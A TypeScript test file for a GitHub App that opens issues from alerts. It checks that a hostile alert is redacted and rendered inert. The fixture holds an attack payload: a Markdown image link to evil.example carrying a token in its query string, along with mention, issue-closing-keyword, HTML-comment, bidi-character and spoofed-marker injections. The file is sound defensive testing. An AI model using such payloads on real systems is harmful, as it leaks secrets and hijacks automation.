import { generateKeyPairSync } from "node:crypto";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { Probot, ProbotOctokit } from "probot";
import { describe, expect, it } from "vitest";
import { sentryApp } from "../../src/entrypoints/app.js";
import { serveSettingsFromEnv } from "../../src/entrypoints/cli/serve-command.js";
import { incidentMarker } from "../../src/github/incident-issue.js";
import { installFakeGit } from "../github/helpers/fake-git.js";
import { installFakeIssues } from "../github/helpers/fake-issues.js";
import { githubApi } from "../github/helpers/github-nock.js";

/**
 * Issue 16, class 5, through the App: a hostile alert sender with a valid alert token posts to the App's
 * alert route. What lands in the issue is redacted and inert, and a quoted marker takes nothing over.
 */
const privateKey = generateKeyPairSync("rsa", { modulusLength: 2048 })
  .privateKey.export({ type: "pkcs1", format: "pem" })
  .toString();
const ALERT_TOKEN = "alert-token-0123456789";
const TOKEN = `ghp_${"Qm4".repeat(12)}`;

type Handler = (req: IncomingMessage, res: ServerResponse) => unknown;

describe("a hostile alert through the App (class 5)", () => {
  it("opens its own issue with the secret redacted and the Markdown inert", async () => {
    const scope = githubApi();
    const git = installFakeGit(scope, "acme", "shop");
    const issues = installFakeIssues(scope, "acme", "shop");
    git.commitOn("main", { "README.md": "shop\n" }, "initial");
    scope
      .persist()
      .post("/app/installations/4242/access_tokens")
      .reply(201, { token: "ghs_installation", expires_at: "2099-01-01T00:00:00Z", permissions: {} })
      .get("/repos/acme/shop/installation")
      .reply(200, { id: 4242 })
      .get("/repos/acme/shop")
      .reply(200, { default_branch: "main", name: "shop", owner: { login: "acme" } })
      .get(/\/repos\/acme\/\.github\/contents\//)
      .reply(404, { message: "Not Found" });
    issues.issues.set(1, {
      number: 1,
      title: "[P1] payments",
      body: `${incidentMarker("payments")}\nThe payments incident.`,
      state: "open",
      labels: ["sentry:incident"],
    });
    issues.nextNumber = 2;
    const probot = new Probot({
      appId: 1,
      privateKey,
      logLevel: "error",
      Octokit: ProbotOctokit.defaults((o: Record<string, unknown>) => ({
        ...o,
        throttle: { ...(o.throttle as object), enabled: false },
        retry: { enabled: false },
      })),
    });
    const handlers: Handler[] = [];
    let resolveDelivered: (d: unknown) => void = () => undefined;
    const delivered = new Promise((r) => {
      resolveDelivered = r;
    });
    await probot.load(
      sentryApp(
        {
          serve: serveSettingsFromEnv({ SENTRY_ALERT_TOKENS_GENERIC: ALERT_TOKEN }),
          handOff: "in-process",
          appSlug: "claude-sentry",
          serverUrl: "https://github.com",
          defaultRepo: { owner: "acme", repo: "shop" },
          providerEnv: { LLM_PROVIDER: "offline" },
        },
        { onDelivered: (d) => resolveDelivered(d) },
      ),
      { cwd: process.cwd(), addHandler: (h) => handlers.push(h) },
    );
    const server = createServer(async (req, res) => {
      for (const h of handlers) if (await h(req, res)) return;
      res.statusCode = 404;
      res.end();
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const res = await fetch(`${base}/api/alerts/generic`, {
        method: "POST",
        headers: { "content-type": "application/json", authorization: `Bearer ${ALERT_TOKEN}` },
        body: JSON.stringify({
          title: `Disk full @acme/oncall Fixes: #1 ${TOKEN}`,
          service: "checkout",
          severity: "P2",
          fingerprint: "attacker",
          description: `![x](https://evil.example/?t=${TOKEN}) <!-- x --> \u2066 ${incidentMarker("payments")}`,
        }),
      });
      expect(res.status).toBe(202);
      expect(await delivered).toMatchObject({ status: "delivered" });
      expect(issues.issues.get(1)!.body).toBe(`${incidentMarker("payments")}\nThe payments incident.`);
      const mine = issues.issues.get(2)!;
      for (const text of [mine.title, mine.body, ...issues.comments.map((c) => c.body)]) {
        expect(text).not.toContain(TOKEN);
        expect(text).not.toMatch(/@(?!\u200b)acme/);
        expect(text).not.toMatch(/Fixes: #1/);
        expect(text).not.toMatch(/\u2066/);
      }
      expect(mine.body.split("\n").slice(1).join("\n")).not.toMatch(/^<!--/m);
    } finally {
      await new Promise<void>((r) => server.close(() => r()));
    }
  }, 60_000);
});
